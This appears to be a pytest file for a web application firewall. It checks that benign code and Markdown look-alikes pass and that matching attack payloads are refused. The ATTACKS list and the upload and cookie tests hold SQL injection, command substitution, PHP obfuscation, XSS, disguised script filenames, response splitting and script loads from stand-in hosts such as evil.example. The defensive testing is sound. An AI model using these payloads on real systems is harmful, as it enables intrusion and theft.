"""Code, templates, Markdown and documents that resemble attacks, each beside the attack
class it resembles, placed in every part of a request (issue 16, the 2% benign target).

The look-alikes are the forms the rules were relaxed for (JavaScript statements, C++ casts,
shell parameter expansions, Markdown code spans, Windows paths as upload names, pasted SVG);
the attacks are the classes those same rules must still refuse, so a relaxation that goes
too far fails here, whatever the corpora say."""

from __future__ import annotations

import pytest

from tests.filters.waf.conftest import refused_in, run
from wardgate.filters.waf import placements

_EVERYWHERE = [p for p in placements.PLACEMENTS if p != "json_key"]

LOOK_ALIKES = [
    "const parentModule = parts.slice(0, -1).join('.');",  # '); ends a JS statement
    'command.value = "";',  # ""; ends one too
    "scrollBelowBar(byId('operations'));\n};\nif (bar) {",
    "if (box) box.checked = true;",  # a JS if assigns after its parentheses
    "if (event.data.close) {\n  let connectionID = event.data.close;",
    "from sympy.functions.elementary.exponential import (exp, log)",  # Python import (
    "return reinterpret_cast<void *>(P);\n}",  # a C++ cast, not process substitution
    'git checkout "${branch#refs/heads/}"',  # a prefix removal stripping a path
    "`env` is a common Python dictionary, and so does not have attribute access",
    "See `prompt_toolkit.shortcuts.prompt`.",  # a code span, not a tagged template
    "rather than `MarkdownIt.renderer.rules[name] = function`",
    "One such example is ``expm1(x)``, which evaluates ``exp(x) - 1``.",
    "body = f\"{body} {{{', '.join(sorted(self._reject))}}}\"",  # not Jinja's self._
    "0.288 Batting Average\n# Indentation determines scope\n---",  # YAML, not SQL --
    "}\n// set header ready\n/* done */",  # code comments after line ends in a path
    "/*!\nViz.js 3.2.4\nCopyright (c) 2023",  # a licence banner, not MySQL's /*!
    'if (e.key === "ArrowUp" || e.key === "ArrowDown") {',  # JS ===, not a tautology
    "if (el.getAttribute('data-x') || fallback) { run(); }",
    'r <- factor(gl(4, 2, labels=c("r1", "r2"))) # rows',  # R, a comment after a call
    ">>> list(sqs.queues.all()) 'https://url1' # Convert",  # a doctest
    'document.querySelector("div.plain").classList.toggle("hidden");',
    "${process.stdout.columns}x${process.stdout.rows}",
    'git log "--format=%H" -n 1',
    "-->\n<!--",  # an HTML comment, not an SQL one
    'output = document.createElement("div");',
    "(r'\\?' + valid_name, Name.Tag),",  # '?' is a string, not PostgreSQL's ? operator
    "named with url.insteadOf setting in $HOME/.gitconfig did not work well.",
    "Convert the true and false value of the intrinsic if function",
    "Debian does not provide a `python` command, though `python3` does exist.",
]


@pytest.mark.parametrize("where", placements.PLACEMENTS)
@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_code_and_markdown_look_alikes_pass_everywhere(default_waf, text, where):
    assert not refused_in(default_waf, text, where), (text, where)


ATTACKS = [
    "admin@example.com';",  # a lone quote ending the statement: authentication bypass
    "x'/* c */;",
    "1');DROP TABLE users--",
    "(sy.(st).em)('uname');",  # a PHP function name built by an expression
    "$y = 'sys'.'tem';($y)('uname');",
    "(z)[0][0]('uname');",
    '( string ) "sys"."t"."em" (\'uname\');',
    "while(!'');",  # a JavaScript loop that never ends
    ";REPLACE INTO users (id, name) VALUES (1, 'x');",
    "if(1=1,sleep(5),0)",  # SQL IF with its comparison inside
    "IF(SUBSTRING(version(),1,1)=5,1,0)",
    "`id`",  # command substitution, alone or glued
    "a`whoami`b",
    "; echo `id` > /tmp/x",
    "alert`1`",  # a tagged template
    "import('//evil.example/x.js')",  # a dynamic import of a URL
    "cat /e${x#{}}tc/hosts",  # an expansion that removes nothing
    "x=<(id)",  # process substitution starting a word
    'if "%1"=="" goto ERROR',  # a batch comparison with an empty string
    "admin'--",
    "1') or ('1'='1",
    'x") union select password from users',
    "' /*!50000or*/1='1",  # MySQL executable comments
    "0/**/union/*!50000select*/table_name",
    'document.querySelector("p").textContent="XSS"',
    "x'||'a'='a",
    "foo' or true--",
    "OR '{\"a\":\"b\"}' ? 'a'",  # PostgreSQL's JSON key operator
    'x.appendChild(document.createElement("script")).src="//e.example/x.js"',
    ";python3 -c 'import os'",
]


@pytest.mark.parametrize("where", _EVERYWHERE)
@pytest.mark.parametrize("payload", ATTACKS)
def test_the_attack_classes_they_resemble_are_refused_everywhere(default_waf, payload, where):
    assert refused_in(default_waf, payload, where), (payload, where)


# --- upload file names ------------------------------------------------------------------

BOUNDARY = "b0undary"


def _upload(config, filename: str):
    body = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="f"; filename="{filename}"'
        f"\r\nContent-Type: application/octet-stream\r\n\r\nhello\r\n--{BOUNDARY}--\r\n"
    )
    return run(
        config,
        "/up",
        method="POST",
        body=body,
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )


@pytest.mark.parametrize(
    "filename",
    [
        "C:\\Users\\dev\\RelNotes\\2.13.6.txt",  # older browsers send the whole path
        "C:\\Program Files\\notes\\report (final).docx",
        "a=b; c.txt",  # shell characters alone are a shape, not an attack
        "<draft> notes.txt",
    ],
)
def test_windows_paths_and_odd_characters_in_upload_names_pass(default_waf, filename):
    reply, _ = _upload(default_waf, filename)
    assert reply is None, [v.rule_id for v in reply.violations] if reply else None


def test_a_shape_signal_alone_is_reported_not_scored(default_waf):
    reply, request = _upload(default_waf, "a=b.txt")
    assert reply is None
    notes = request.metadata["waf"]["uncorroborated"]
    assert {"ruleId": "waf.920250", "location": "file:f", "by": notes[0]["by"]} in notes


@pytest.mark.parametrize(
    ("filename", "rule"),
    [
        ("1.j\\s\\p", "waf.944140"),  # read as an escape-aware parser does: 1.jsp
        ("shell.p\\hp", "waf.933110"),
        ("C:\\x\\shell.php", "waf.933110"),
        ('a.txt\\"; x=".php', "waf.920122"),  # an escaped quote: parsers disagree on the end
        ("shell.php;.jpg", "waf.933110"),  # IIS stops at the semicolon
        ("x.jsp;.png", "waf.944140"),
        ("shell.php::$DATA", "waf.933110"),  # an NTFS stream name
    ],
)
def test_escapes_and_cut_offs_in_upload_names_do_not_hide_a_script(default_waf, filename, rule):
    reply, _ = _upload(default_waf, filename)
    assert reply is not None and reply.status == 403, filename
    assert rule in [v.rule_id for v in reply.violations]


def test_a_shape_signal_adds_to_a_strong_match(default_waf):
    reply, _ = _upload(default_waf, "<script>alert(1)</script>.html")
    assert reply is not None
    assert {"waf.941110", "waf.920250"} <= {v.rule_id for v in reply.violations}


# --- documents and multi-line text in cookies and paths -----------------------------------

SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<svg height="16px" viewBox="0 0 16 16" '
    'width="16px" xmlns="http://www.w3.org/2000/svg">\n    <path d="m 7 1 v 6 h -6 z" '
    'fill="#2e3436"/>\n</svg>'
)


@pytest.mark.parametrize("where", ["cookie", "filename", "path", "form", "xml"])
def test_a_pasted_svg_document_passes(default_waf, where):
    assert not refused_in(default_waf, SVG, where), where


@pytest.mark.parametrize(
    "cookie",
    [
        "a%0d%0a%0d%0a%3Chtml%3Ex",  # a blank line opens a response body
        "a%0a%3Cscript%3Ealert(1)%3C/script%3E",
        "a%0a%3Csvg%20onload%3Dalert(1)%3E",  # an SVG line that runs script
        "a%0d%0aSet-Cookie:%20admin=1",
    ],
)
def test_response_splitting_in_a_cookie_is_still_refused(default_waf, cookie):
    reply, _ = run(default_waf, "/", headers={"Cookie": f"pref={cookie}"})
    assert reply is not None and reply.status == 403, cookie
